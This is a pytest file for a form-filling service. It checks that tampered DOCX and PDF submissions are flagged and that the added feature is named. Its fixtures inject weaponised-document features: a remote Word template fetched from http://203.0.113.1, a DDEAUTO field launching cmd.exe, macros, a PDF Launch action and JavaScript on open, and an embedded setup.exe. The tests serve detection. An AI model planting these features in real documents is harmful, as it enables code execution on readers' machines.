"""No document that does more than our own fill is called unchanged, and what it does is named."""

import io
import re

import pikepdf
import pytest

from formsvc import fill
from formsvc.documents.proof import carriage, marks
from formsvc.documents.proof.verification import Status, verify
from tests.test_proof import zipped

BODY, STYLES, SETTINGS = "word/document.xml", "word/styles.xml", "word/settings.xml"
LINKS = "word/_rels/document.xml.rels"
TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def put(name: str, old: str, new: str):
    """A change of one part: the first `old` becomes `new`."""

    def change(members):
        text = members.get(name, b"").decode()
        assert re.search(old, text), (name, old)
        members[name] = re.sub(old, lambda _: new, text, count=1).encode()

    return change


def add(name: str, content: bytes):
    return lambda members: members.__setitem__(name, content)


def together(*changes):
    return lambda members: [change(members) for change in changes]


def link(kind: str, target: str, mode: str = "External", part: str = LINKS):
    entry = f'<Relationship Id="x9" Type="{TYPE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return put(part, "</Relationships>", f"{entry}</Relationships>")


def field(code: str):
    run = f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return put(BODY, "<w:r>", f"{run}<w:r>")


def defaults(look: str):
    return put(STYLES, r"<w:rPrDefault>\s*<w:rPr>", f"<w:rPrDefault><w:rPr>{look}")


def everywhere(look: str):
    """The style that paragraphs have when they name none."""
    return put(STYLES, "</w:styles>", f'<w:style w:type="character" w:styleId="odd"><w:rPr>{look}</w:rPr></w:style></w:styles>')  # fmt: skip


DOCX = {
    "attached template": (
        together(
            put(SETTINGS, "<w:zoom", '<w:attachedTemplate r:id="x9"/><w:zoom'),
            add(
                "word/_rels/settings.xml.rels",
                f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="x9" Type="{TYPE}/attachedTemplate" Target="http://203.0.113.1/a.dotm" TargetMode="External"/></Relationships>'.encode(),
            ),
        ),
        "attachedTemplate",
    ),
    "DDE": (field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"), "DDEAUTO"),
    "INCLUDEPICTURE": (field("INCLUDEPICTURE http://203.0.113.1/x.png \\d"), "INCLUDEPICTURE"),
    "simple field": (
        put(BODY, "<w:r>", '<w:fldSimple w:instr="DDE excel a b"/><w:r>'),
        "DDE EXCEL",
    ),
    "macros": (add("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"), "vbaProject.bin"),
    "macro type": (
        put("[Content_Types].xml", r"[^\"]*document\.main\+xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
        "macroEnabled",
    ),
    "object": (add("word/embeddings/oleObject1.bin", b"x"), "oleObject1.bin"),
    "external picture": (link("image", "http://203.0.113.1/x.png"), "image"),
    "frame": (link("frame", "http://203.0.113.1/"), "frame"),
    "another body": (
        together(
            add("word/other.xml", b"<a/>"),
            put("_rels/.rels", "word/document.xml", "word/other.xml"),
        ),
        "other.xml",
    ),
    "hidden by default": (defaults("<w:vanish/>"), "隐藏文字"),
    "white by default": (defaults('<w:color w:val="FFFFFF"/>'), "浅色文字"),
    "white by theme": (defaults('<w:color w:val="auto" w:themeColor="background1"/>'), "浅色文字"),
    "font of signs": (put(BODY, "<w:rPr>", '<w:rPr><w:rFonts w:ascii="Wingdings"/>'), "符号字体"),
    "black ground": (put(BODY, "<w:rPr>", '<w:rPr><w:highlight w:val="black"/>'), "底色"),
    "bound control": (
        put(BODY, "<w:sdtPr>", '<w:sdtPr><w:dataBinding w:xpath="/x" w:storeItemID="y"/>'),
        "dataBinding",
    ),
    "mail merge": (put(SETTINGS, "<w:zoom", "<w:mailMerge/><w:zoom"), "mailMerge"),
    "second submission": (
        add("customXml/item9.xml", b'<submission xmlns="urn:formsvc:submission"/>'),
        "填报数据",
    ),
}  # fmt: skip


@pytest.fixture(scope="module")
def ours(catalogue, summary_form):
    from tests.conftest import first_sample

    data = first_sample(summary_form.id)
    return {format: fill(summary_form, data, format) for format in ("docx", "pdf")}


def verdict_of(raw, catalogue):
    return verify(raw, catalogue.editions())


@pytest.mark.parametrize("name", DOCX)
def test_a_weapon_in_word_is_named(name, ours, catalogue):
    change, named = DOCX[name]
    members = carriage.package(ours["docx"])
    change(members)
    verdict = verdict_of(zipped(members), catalogue)
    assert (verdict.status, named in verdict.message) == (Status.CHANGED, True), verdict.message


@pytest.mark.parametrize(
    ("look", "named"),
    [('<w:sz w:val="2"/>', "极小"), ("<w:vanish/>", "隐藏"), ('<w:color w:val="FEFEFE"/>', "浅色"),
     ('<w:w w:val="1"/>', "压扁")],
)  # fmt: skip
def test_a_text_that_nobody_can_read_is_named_wherever_its_look_comes_from(
    look, named, ours, catalogue
):
    style = put(STYLES, "</w:styles>", f'<w:style w:type="character" w:styleId="odd"><w:rPr>{look}</w:rPr></w:style></w:styles>')  # fmt: skip
    for used in (look, '<w:rStyle w:val="odd"/>'):
        members = carriage.package(ours["docx"])
        style(members)
        body = members[BODY].decode()
        last = r"<w:rPr>((?:(?!</w:rPr>).)*)</w:rPr>(<w:t[ >])"
        members[BODY] = re.sub(last, rf"<w:rPr>{used}</w:rPr>\2", body, count=9).encode()
        assert members[BODY].decode() != body
        verdict = verdict_of(zipped(members), catalogue)
        assert (verdict.status, named in verdict.message) == (Status.CHANGED, True), verdict.message


def name(text):
    return pikepdf.Name(text)


def script(pdf):
    return pikepdf.Dictionary(S=name("/JavaScript"), JS=pikepdf.String("app.alert(1)"))


def opening(pdf):
    pdf.Root.OpenAction = script(pdf)


def launching(pdf):
    pdf.Root.OpenAction = pikepdf.Dictionary(S=name("/Launch"), F=pikepdf.String("cmd.exe"))


def attaching(pdf):
    pdf.attachments["setup.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ", filename="setup.exe")


def named_script(pdf):
    tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), script(pdf)]))
    pdf.Root.Names.JavaScript = tree


def on_page(pdf):
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=script(pdf))


def linking(pdf):
    note = pikepdf.Dictionary(
        Type=name("/Annot"), Subtype=name("/Link"), Rect=pikepdf.Array([0, 0, 600, 800]),
        A=pikepdf.Dictionary(S=name("/URI"), URI=pikepdf.String("http://203.0.113.1/")),
    )  # fmt: skip
    pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(note)])


def layered(pdf):
    pdf.Root.OCProperties = pikepdf.Dictionary(OCGs=pikepdf.Array())


def form_script(pdf):
    seal = pikepdf.Dictionary(FT=name("/Sig"), T=pikepdf.String("s"), AA=pikepdf.Dictionary(F=script(pdf)))  # fmt: skip
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([pdf.make_indirect(seal)]))


@pytest.mark.parametrize(
    ("change", "named"),
    [(opening, "JavaScript"), (launching, "Launch"), (attaching, "setup.exe"),
     (named_script, "JavaScript"), (on_page, "JavaScript"), (linking, "URI"),
     (layered, "OCProperties"), (form_script, "JavaScript")],
)  # fmt: skip
def test_a_weapon_in_a_pdf_is_named(change, named, ours, catalogue):
    saved = io.BytesIO()
    with pikepdf.open(io.BytesIO(ours["pdf"])) as pdf:
        change(pdf)
        pdf.save(saved)
    verdict = verdict_of(saved.getvalue(), catalogue)
    assert (verdict.status, named in verdict.message) == (Status.CHANGED, True), verdict.message


def test_a_program_behind_the_end_of_a_pdf_is_noticed(ours, catalogue):
    assert verdict_of(ours["pdf"] + b"MZ" * 500, catalogue).status is Status.CHANGED


def test_what_editors_add_as_they_save_is_harmless(ours, catalogue):
    members = carriage.package(ours["docx"])
    put(BODY, "<w:p>", '<w:p><w:bookmarkStart w:id="0" w:name="_GoBack"/><w:bookmarkEnd w:id="0"/><w:proofErr w:type="spellStart"/>')(members)  # fmt: skip
    put(SETTINGS, "<w:zoom", '<w:rsids><w:rsidRoot w:val="00A1"/></w:rsids><w:zoom')(members)
    add("word/webSettings.xml", b'<w:webSettings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:optimizeForBrowser/></w:webSettings>')(members)  # fmt: skip
    link("webSettings", "webSettings.xml", "Internal")(members)
    add("docProps/custom.xml", b"<Properties/>")(members)
    link("custom-properties", "docProps/custom.xml", "Internal", "_rels/.rels")(members)
    verdict = verdict_of(zipped(members), catalogue)
    assert verdict.status is Status.UNCHANGED, verdict.message


# what is carried


@pytest.mark.parametrize("code", [" " * 1_000_000, "FS1/" + "a " * 300_000, "\n" * 500_000])
def test_a_code_of_any_length_is_refused_at_once(code, ours, catalogue):
    import time

    members = carriage.package(ours["docx"])
    item = next(name for name in members if name.startswith("customXml/item1."))
    data = carriage.extract(ours["docx"]).data
    members[item] = carriage.part(carriage.Record(code, data)).replace(b"\n" * 99, b"&#10;" * 99)
    began = time.monotonic()
    assert verdict_of(zipped(members), catalogue).status is not Status.UNCHANGED
    assert time.monotonic() - began < 3
    began = time.monotonic()
    with pytest.raises(carriage.UnreadableDocument):
        marks.parse_mark(code)
    assert time.monotonic() - began < 0.01


def test_a_number_of_402_digits_in_a_paper_is_a_verdict(ours, catalogue, caplog):
    members = carriage.package(ours["docx"])
    item = next(name for name in members if name.startswith("customXml/item1."))
    record = carriage.extract(ours["docx"])
    data = re.sub(rb'"living":[0-9]+', b'"living":' + b"9" * 402, record.data)
    members[item] = carriage.part(carriage.Record(record.code, data))
    assert verdict_of(zipped(members), catalogue).status is Status.CHANGED


def test_electronic_seals_in_the_places_for_them_leave_a_paper_unchanged(catalogue, summary_form):
    from tests.conftest import first_sample
    from tests.test_signing import signed
    from tests.test_signing import signer as made

    signer = made.__wrapped__()
    raw = fill(summary_form, first_sample(summary_form.id), "pdf", signature_fields=True)
    for place in summary_form.signatures:
        raw = signed(raw, place.name, signer)
    verdict = verdict_of(raw, catalogue)
    assert verdict.status is Status.UNCHANGED, verdict.message


def test_a_text_that_takes_long_to_compare_is_changed_all_the_same(ours, catalogue, summary_form):
    from formsvc import submissions

    data = submissions.parse(carriage.extract(ours["docx"]).data).data
    data["training"]["content"] = "ab" * 1900
    raw = fill(summary_form, data, "docx", draft=True)
    members = carriage.package(raw)
    put(BODY, "(?:ab){1900}", "aab" * 1300)(members)
    verdict = verdict_of(zipped(members), catalogue)
    assert verdict.status is Status.VALUES, verdict.message
    assert verdict.pointers == ("/training/content",)


def test_a_typed_text_longer_than_any_field_is_refused_before_it_is_taken_apart(
    catalogue, summary_form
):
    from formsvc.intake.reading import read

    saved = io.BytesIO()
    with pikepdf.open(summary_form.pdf) as pdf:
        box = next(field for field in pdf.Root.AcroForm.Fields if field.get("/FT") == "/Tx")
        box.V = pikepdf.String("9 " * 15_000)
        pdf.save(saved)
    with pytest.raises(carriage.UnreadableDocument, match="20,000"):
        read(saved.getvalue(), catalogue)
